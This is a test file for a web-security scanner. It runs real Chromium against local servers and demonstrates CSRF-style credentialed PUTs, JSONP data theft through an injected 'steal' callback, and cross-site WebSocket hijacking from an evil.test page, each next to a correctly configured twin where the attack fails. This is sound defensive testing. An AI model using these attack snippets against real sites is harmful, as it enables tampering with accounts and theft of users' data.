/**
 * The attacks behind the scanner's newer classes, done by real Chromium: an attacker page on
 * `http://evil.test:<port>` (mapped to loopback) against fleet servers on 127.0.0.1. Each case shows
 * the page really changing state or really reading what the server answers, and the scanner
 * reporting that class on that server; the correct twin shows the attack failing. The origin-trust
 * classes are shown in browser.test.ts.
 *
 * Cookies: the victim's session cookie is in the browser (SameSite=None; Secure on 127.0.0.1), and
 * Chromium 156 here does NOT send it on these cross-site requests (third-party cookies blocked; the
 * last test pins that), so the pages read the signed-out answer. What an attacker gets in a browser
 * that sends third-party cookies is the signed-in one (docs/scan.md says so per class).
 */
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import { type Browser, type BrowserContext, chromium } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { scan } from '../../src/scan/index.js';
import { browserSuitePolicy } from '../browsers/harness/available.js';
import { CHROMIUM_ARGS, CHROMIUM_PATH } from '../browsers/harness/chromium.js';
import { FLEET, listen, type Running, SITE } from './fleet.js';

const policy = browserSuitePolicy('chromium');
const NAMES = [
  'preflight-only-trust',
  'preflight-same-allowlist',
  'jsonp-text-html',
  'jsonp-signed-in-only',
  'jsonp-nosniff-json',
  'websocket-any-origin',
  'websocket-origin-checked',
  'cors-origin-true',
] as const;

describe.runIf(policy.run || (!policy.run && policy.fail))('attacks in real Chromium', () => {
  const servers: Record<string, Running> = {};
  /** Requests each server received: method, and whether the session cookie came along. */
  const seen: Record<string, string[]> = {};
  let page: http.Server;
  let pagePort = 0;
  let browser: Browser;
  let context: BrowserContext;

  beforeAll(async () => {
    if (!policy.run) throw new Error(`CI=true and ${policy.reason}`);
    for (const name of NAMES) {
      const s = FLEET.find((f) => f.name === name);
      if (!s) throw new Error(name);
      seen[name] = [];
      servers[name] = await listen(
        name,
        (req, res) => {
          seen[name]?.push(
            `${req.method} ${(req.headers.cookie ?? '').includes('s3cret') ? 'cookie' : 'no-cookie'}`,
          );
          s.handler(req, res);
        },
        s.upgrade,
      );
    }
    page = http.createServer((_req, res) => {
      res.setHeader('content-type', 'text/html');
      res.end('<!doctype html><title>evil</title>');
    });
    await new Promise<void>((r) => page.listen(0, '127.0.0.1', r));
    pagePort = (page.address() as AddressInfo).port;
    browser = await chromium.launch({
      executablePath: CHROMIUM_PATH,
      args: [...CHROMIUM_ARGS],
      timeout: 60_000,
    });
    context = await browser.newContext();
    // The victim is signed in to every fleet server.
    // (Cookies ignore ports: one cookie on 127.0.0.1 covers every fleet server.)
    await context.addCookies([
      { name: 'session', value: 's3cret', domain: '127.0.0.1', path: '/', sameSite: 'None', secure: true },
    ]);
  }, 120_000);

  afterAll(async () => {
    await browser?.close();
    await Promise.all(Object.values(servers).map((s) => s.close()));
    await new Promise<void>((r) => (page ? page.close(() => r()) : r()));
  });

  /** Runs `fn` in a page on http://evil.test:<port>. */
  async function onEvil<A, R>(fn: (arg: A) => Promise<R>, arg: A): Promise<R> {
    const p = await context.newPage();
    try {
      await p.goto(`http://evil.test:${pagePort}/`);
      return await p.evaluate(fn as never, arg);
    } finally {
      await p.close();
    }
  }

  async function classes(name: (typeof NAMES)[number]): Promise<string[]> {
    const r = await scan(servers[name]?.url ?? '', { origin: SITE, cookie: 'session=s3cret' });
    return r.targets[0]?.findings.map((f) => `${f.class} ${f.severity}`) ?? [];
  }

  it('preflight-only trust: the credentialed PUT reaches the server, though the page cannot read the answer', async () => {
    expect(await classes('preflight-only-trust')).toEqual(['preflight-only-trust high']);
    const put = async (url: string) =>
      fetch(url, {
        method: 'PUT',
        credentials: 'include',
        headers: { 'content-type': 'application/json' },
        body: '{"email":"attacker@evil.test"}',
      }).then(
        () => 'read',
        () => 'blocked',
      );
    for (const name of ['preflight-only-trust', 'preflight-same-allowlist'] as const) {
      const s = seen[name] as string[];
      s.length = 0;
      expect(await onEvil(put, servers[name]?.url ?? '')).toBe('blocked');
      expect(s, name).toEqual(
        name === 'preflight-only-trust' ? ['OPTIONS no-cookie', 'PUT no-cookie'] : ['OPTIONS no-cookie'],
      );
    }
  });

  it('JSONP as browsers run it: text/html and application/json without nosniff run as script and the page reads the data; with nosniff they do not', async () => {
    expect(await classes('jsonp-text-html')).toEqual(['jsonp high']);
    expect(await classes('jsonp-signed-in-only')).toEqual(['jsonp high']);
    expect(await classes('jsonp-nosniff-json')).toEqual(['jsonp info']);
    const steal = ({ url, param }: { url: string; param: string }) =>
      new Promise<string>((resolve) => {
        const w = window as unknown as Record<string, (d: unknown) => void>;
        w.steal = (d) => resolve(JSON.stringify(d));
        const s = document.createElement('script');
        s.src = `${url}?${param}=steal`;
        s.onerror = () => resolve('error');
        s.onload = () => setTimeout(() => resolve('did not run'), 200);
        document.head.append(s);
      });
    const url = (n: (typeof NAMES)[number]) => servers[n]?.url ?? '';
    // The callback ran: the page holds the server's data (the signed-out answer: see the cookie note).
    expect(await onEvil(steal, { url: url('jsonp-text-html'), param: 'jsoncallback' })).toBe('{"user":null}');
    // Wrapped only for signed-in users: without the third-party cookie plain JSON comes back, which ORB blocks.
    expect(await onEvil(steal, { url: url('jsonp-signed-in-only'), param: 'cb' })).toBe('error');
    // nosniff + application/json: the browser refuses to run it.
    expect(await onEvil(steal, { url: url('jsonp-nosniff-json'), param: 'callback' })).not.toContain('user');
  });

  it('cross-site WebSocket hijacking: the page on evil.test opens the socket as the user and reads its message', async () => {
    expect(await classes('websocket-any-origin')).toEqual(['websocket-hijacking medium']);
    expect(await classes('websocket-origin-checked')).toEqual([]);
    const open = (url: string) =>
      new Promise<string>((resolve) => {
        const ws = new WebSocket(url.replace(/^http/, 'ws'));
        ws.onmessage = (e) => resolve(String(e.data));
        ws.onerror = () => resolve('refused');
      });
    expect(await onEvil(open, servers['websocket-any-origin']?.url ?? '')).toBe('{"user":null}');
    expect(await onEvil(open, servers['websocket-origin-checked']?.url ?? '')).toBe('refused');
  });

  it('Chromium 156 here sends no third-party cookie: the credentialed cross-site read gets the signed-out answer', async () => {
    const read = (url: string) => fetch(url, { credentials: 'include' }).then((r) => r.text());
    const s = seen['cors-origin-true'] as string[];
    s.length = 0;
    expect(await onEvil(read, servers['cors-origin-true']?.url ?? '')).toBe('{"user":null}');
    expect(s).toEqual(['GET no-cookie']);
    // The cookie is there: a top-level visit sends it.
    const p = await context.newPage();
    await p.goto(servers['cors-origin-true']?.url ?? '');
    expect(await p.textContent('body')).toContain('alice@victim.test');
    await p.close();
  });
});
